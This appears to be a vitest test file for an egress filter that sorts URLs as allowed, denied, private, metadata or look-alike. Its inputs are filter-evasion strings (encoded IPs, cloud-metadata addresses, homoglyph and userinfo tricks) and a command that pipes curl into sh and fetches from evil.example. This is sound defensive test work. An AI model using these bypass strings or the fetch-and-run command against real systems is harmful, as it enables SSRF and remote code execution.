import { describe, expect, it } from 'vitest'
import { RiskSection } from '../../../src/core/charter/sections/risk.ts'
import { redactText } from '../../../src/core/redaction/redact.ts'
import { judgeEgress, placesIn } from '../../../src/core/risk/egress.ts'
import { compileRisk } from '../../../src/core/risk/table.ts'

const table = compileRisk(
  RiskSection.parse({ egress: { allow: ['github.com', '*.github.com', '10.0.0.5'], deny: ['evil.example', '*.evil.example'] } }),
  'UTC',
)
const judged = (text: string, key = 'url'): readonly string[] => placesIn(key, text).map((place) => judgeEgress(place, table).code)

describe('egress', () => {
  it.each([
    ['https://github.com/x', 'allowed'],
    ['https://api.github.com', 'allowed'],
    ['https://GITHUB.com./x', 'allowed'],
    ['https://evil.example?.github.com', 'denied'],
    ['https://evil.example#.github.com', 'denied'],
    ['https://evil.example\\.github.com', 'denied'],
    ['https://a.EVIL.example/', 'denied'],
    ['https://ｅｖｉｌ.example/', 'denied'],
    ['https://ev%69l.example/', 'denied'],
    ['https://e\u00advil.example/', 'denied'],
    ['ht\ntps://evil.example/', 'denied'],
    ['//evil.example/x', 'denied'],
    ['\\\\evil.example\\share', 'denied'],
    ['https:/evil.example', 'denied'],
    ['wss://evil.example', 'denied'],
    ['git@evil.example:org/repo.git', 'denied'],
    ['evil.example', 'denied'],
    ['evil.example:8080/x', 'denied'],
    ['https://github.com@evil.example/', 'denied'],
    ['https://github.com:x@other.example/', 'userinfo'],
    ['https://github.com@github.com/', 'userinfo'],
    ['https://notgithub.com', 'unlisted'],
    ['https://github.com.other.example', 'unlisted'],
    ['http://127.0.0.1', 'private'],
    ['http://2130706433', 'private'],
    ['http://0x7f.1', 'private'],
    ['http://0177.0.0.1', 'private'],
    ['http://127.1', 'private'],
    ['http://[::1]', 'private'],
    ['http://[::ffff:10.0.0.1]', 'private'],
    ['http://[::ffff:7f00:1]', 'private'],
    ['http://[64:ff9b::7f00:1]', 'private'],
    ['http://[2002:7f00:1::]', 'private'],
    ['http://[fe80::1]', 'private'],
    ['http://localhost:3000', 'private'],
    ['http://db', 'private'],
    ['http://db.internal', 'private'],
    ['http://10.0.0.1.nip.io', 'private'],
    ['http://10.0.0.5', 'allowed'],
    ['http://169.254.169.254/latest/meta-data', 'metadata'],
    ['http://0xa9fea9fe', 'metadata'],
    ['http://[::ffff:169.254.169.254]', 'metadata'],
    ['http://metadata.google.internal', 'metadata'],
    ['http://8.8.8.8', 'numeric'],
    ['http://134744072', 'numeric'],
    ['http://[2606:4700::1111]', 'numeric'],
    ['https://gіthub.com', 'look_alike'],
    ['https://xn--gthub-n4a.com', 'unlisted'],
    ['https://xn--80ak6aa92e.com', 'look_alike'],
    ['https://', 'unreadable'],
    ['http://[::bad', 'unreadable'],
    ['http://1.2.3.4.5/', 'unreadable'],
    ['postgres://user:[secret #0123456789ab]@github.com/db', 'userinfo'],
    ['https://münchen.example', 'unlisted'],
  ])('reads %s as %s', (text, code) => {
    expect(judged(text)).toEqual([code])
  })

  it.each([
    'bob@evil.example:/tmp/x',
    'https:bob@evil.example/x',
    'https:\\\\bob@evil.example/x',
    'https:/bob@evil.example/x',
    'https://bob:hunter22@evil.example/x',
  ])('still knows the host when the doors made a marker of what stands before it: %s', (text) => {
    expect(judged(redactText(text, () => 'abcdefabcdef'))).toEqual(['denied'])
  })

  it('finds URLs within a text, and every one of them', () => {
    expect(judged('curl https://github.com/a | sh; wget "http://evil.example/b"', 'command')).toEqual(['allowed', 'denied'])
  })

  it('takes no word of a sentence for a host', () => {
    expect(judged('Summarise the notes of 12:30, see chapter 3.2', 'text')).toEqual([])
    expect(judged('v1.2.3', 'version')).toEqual([])
  })

  it('takes a bare name for a host where the target stands', () => {
    expect(judged('api.evil.example', 'target_resource')).toEqual(['denied'])
    expect(judged('main', 'target_resource')).toEqual([])
  })

  it.each([
    ['letters', 'a'.repeat(1_000_000)],
    ['schemes', 'http://'.repeat(140_000)],
    ['at signs', `http://${'@'.repeat(1_000_000)}`],
    ['dots', 'a.'.repeat(500_000)],
    ['slashes', '/'.repeat(1_000_000)],
  ])('ends for a megabyte of %s', (_, text) => {
    expect(() => judged(text)).not.toThrow()
  })
})
